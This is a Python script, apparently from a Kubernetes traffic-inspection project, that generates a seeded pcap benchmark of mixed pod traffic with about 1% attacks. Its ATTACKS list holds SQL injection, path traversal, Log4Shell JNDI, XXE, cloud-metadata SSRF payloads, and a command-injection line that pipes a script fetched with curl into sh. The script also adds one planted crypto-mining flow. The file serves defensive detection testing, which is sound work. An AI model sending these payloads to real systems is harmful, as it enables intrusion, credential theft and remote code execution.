"""Generate the DPI benchmark corpus: a pod-traffic pcap (HTTP-heavy, mixed protocols, ~1 % attacks).

Deterministic (seeded) so runs compare. Also writes the HTTP requests it put on the wire as JSON
lines, so the peer (libmodsecurity + CRS) inspects exactly the same requests.
"""

from __future__ import annotations

import json
import random
import struct
from pathlib import Path

from kubeguard.net.pcapgen import (
    Conversation,
    PcapWriter,
    dns_query,
    dns_response,
    tls_client_hello,
    tls_server_hello,
    udp_exchange,
)

VERSION = 3  # bump when the mix changes, so cached corpora are regenerated
ATTACKS = [
    ("GET", "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", b""),
    ("GET", "/download?file=../../../../etc/passwd", b""),
    ("GET", "/search?q=${jndi:ldap://198.51.100.9:1389/a}", b""),
    ("POST", "/api/convert", b'{"cmd":"; curl http://198.51.100.9/x.sh | sh"}'),
    ("POST", "/xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>'),
    ("GET", "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", b""),
    ("GET", "/login?user=admin%27%20OR%20%271%27=%271&pass=x", b""),
]
PATHS = ["/", "/api/v1/orders", "/api/v1/items/{n}", "/static/app.{n}.js", "/healthz", "/metrics",
         "/api/v1/users/{n}/cart", "/images/p{n}.webp", "/graphql", "/api/v2/search?q=shoes&page={n}"]
AGENTS = ["Go-http-client/1.1", "python-requests/2.31.0", "okhttp/4.12.0", "curl/8.5.0", "Envoy/1.29",
          "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36"]
BODY_SIZES = [(1_000, 0.35), (8_000, 0.35), (64_000, 0.20), (512_000, 0.10)]


def _pick_size(rng: random.Random) -> int:
    r = rng.random()
    for size, p in BODY_SIZES:
        if r < p:
            return int(size * rng.uniform(0.5, 1.5))
        r -= p
    return 1000


def _request(rng: random.Random, attack_rate: float) -> tuple[str, str, bytes, bool]:
    if rng.random() < attack_rate:
        method, uri, body = rng.choice(ATTACKS)
        return method, uri, body, True
    uri = rng.choice(PATHS).replace("{n}", str(rng.randint(1, 99999)))
    if rng.random() < 0.2:
        body = json.dumps({"item": rng.randint(1, 10**6), "qty": rng.randint(1, 9), "note": "gift wrap"}).encode()
        return "POST", uri, body, False
    return "GET", uri, b"", False


def generate(pcap: Path, requests_out: Path, target_bytes: int = 210 << 20, seed: int = 7,
             attack_rate: float = 0.01) -> dict[str, int]:
    """Write the corpus; returns counts (flows, requests, attacks) by kind."""
    rng = random.Random(seed)
    blob = rng.randbytes(1 << 20)
    counts = {"http_flows": 0, "http_requests": 0, "attacks": 0, "tls_flows": 0, "dns_flows": 0, "other_flows": 0}
    ts = 1_764_000_000.0
    with pcap.open("wb") as fh, requests_out.open("w") as reqs:
        w = PcapWriter(fh)
        n = 0
        while w.bytes < target_bytes:
            n += 1
            client = (f"10.244.{n % 200}.{(n // 200) % 250 + 2}", 32768 + n % 28000)
            kind = rng.random()
            ts += 0.002
            if kind < 0.45:
                server = (f"10.244.{200 + n % 50}.{n % 7 + 2}", rng.choice([80, 8080, 3000, 9000]))
                conv = Conversation(w, client, server, ts=ts, segment=1448)
                for _ in range(rng.randint(1, 4)):
                    method, uri, body, attack = _request(rng, attack_rate)
                    host = f"svc-{n % 40}.shop.svc.cluster.local"
                    agent = rng.choice(AGENTS)
                    head = (f"{method} {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n"
                            f"Accept: */*\r\nX-Request-Id: {rng.getrandbits(64):016x}\r\n")
                    if body:
                        head += f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n"
                    conv.send(0, head.encode() + b"\r\n" + body)
                    size = _pick_size(rng)
                    start = rng.randrange(0, len(blob) - 1)
                    payload = (blob[start:] + blob)[:size]
                    conv.send(1, b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                                 b"Content-Length: %d\r\n\r\n" % size + payload)
                    reqs.write(json.dumps({"method": method, "uri": uri, "host": host, "agent": agent,
                                           "body": body.decode("latin-1"), "attack": attack}) + "\n")
                    counts["http_requests"] += 1
                    counts["attacks"] += attack
                conv.close()
                ts = conv.ts
                counts["http_flows"] += 1
            elif kind < 0.55:
                server = (f"52.{n % 200}.{n % 13}.{n % 250 + 1}", 443)
                conv = Conversation(w, client, server, ts=ts, segment=1448)
                conv.send(0, tls_client_hello(f"api{n % 30}.example.com"))
                conv.send(1, tls_server_hello())
                for _ in range(rng.randint(1, 3)):
                    size = _pick_size(rng)
                    start = rng.randrange(0, len(blob) - 1)
                    data = (blob[start:] + blob)[:size]
                    conv.send(1, b"\x17\x03\x03" + struct.pack("!H", min(len(data), 16384)) + data)
                conv.close()
                ts = conv.ts
                counts["tls_flows"] += 1
            elif kind < 0.90:
                name = f"svc-{n % 40}.shop.svc.cluster.local"
                ts = udp_exchange(w, (client[0], 40000 + n % 20000), ("10.96.0.10", 53),
                                  [(0, dns_query(name, ident=n & 0xFFFF)),
                                   (1, dns_response(name, ident=n & 0xFFFF, address="10.96.3.4"))], ts=ts)
                counts["dns_flows"] += 1
            else:
                server = (f"10.244.250.{n % 5 + 2}", 6379)
                conv = Conversation(w, client, server, ts=ts)
                for _ in range(rng.randint(2, 10)):
                    key = f"session:{rng.getrandbits(32):08x}"
                    conv.send(0, f"*2\r\n$3\r\nGET\r\n${len(key)}\r\n{key}\r\n".encode())
                    conv.send(1, b"$64\r\n" + blob[:64] + b"\r\n")
                conv.close()
                ts = conv.ts
                counts["other_flows"] += 1
        # the mining pod of the Tesla story, once
        conv = Conversation(w, ("10.244.7.7", 51000), ("104.16.0.9", 8443), ts=ts)
        conv.send(0, b'{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}\n')
        conv.close()
        counts["frames"] = w.frames
        counts["bytes"] = w.bytes
    return counts


def generate_short_flows(pcap: Path, flows: int = 30_000, seed: int = 11) -> dict[str, int]:
    """Many short flows (one-request HTTP, DNS lookups, Redis pings): the per-flow cost."""
    rng = random.Random(seed)
    ts = 1_764_000_000.0
    with pcap.open("wb") as fh:
        w = PcapWriter(fh)
        for n in range(flows):
            client = (f"10.244.{n % 200}.{(n // 200) % 250 + 2}", 32768 + n % 28000)
            kind = n % 3
            if kind == 0:
                conv = Conversation(w, client, (f"10.244.{200 + n % 50}.9", 8080), ts=ts)
                conv.send(0, f"GET /api/v1/items/{rng.randint(1, 99999)} HTTP/1.1\r\nHost: svc\r\n\r\n".encode())
                conv.send(1, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}")
                conv.close()
                ts = conv.ts
            elif kind == 1:
                name = f"svc-{n % 40}.shop.svc.cluster.local"
                ts = udp_exchange(w, (client[0], 40000 + n % 20000), ("10.96.0.10", 53),
                                  [(0, dns_query(name, ident=n & 0xFFFF)),
                                   (1, dns_response(name, ident=n & 0xFFFF, address="10.96.3.4"))], ts=ts)
            else:
                conv = Conversation(w, client, ("10.244.250.3", 6379), ts=ts)
                conv.send(0, b"*1\r\n$4\r\nPING\r\n")
                conv.send(1, b"+PONG\r\n")
                conv.close()
                ts = conv.ts
            ts += 0.0005
        return {"flows": flows, "frames": w.frames, "bytes": w.bytes}
